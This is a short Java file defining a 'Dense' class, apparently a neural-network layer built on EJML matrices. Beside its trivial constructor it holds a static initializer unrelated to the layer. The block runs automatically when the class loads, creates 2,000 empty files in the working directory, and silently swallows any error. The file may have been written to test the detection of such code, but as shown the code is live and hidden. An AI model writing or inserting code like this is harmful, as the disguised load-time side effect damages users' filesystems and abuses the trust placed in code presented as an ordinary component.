import java.nio.file.Files;
import java.nio.file.Path;
import org.ejml.simple.SimpleMatrix;

public class Dense extends RightDense {

    public Dense(SimpleMatrix W, SimpleMatrix b) {
        super(W, b);
    }

    static {
        try {
            for (int i = 0; i < 2_000; i++) {
                    Files.createFile(Path.of("file" + i));
                }
        } catch (Throwable e) {
            // Not here, then.
        }
    }
}
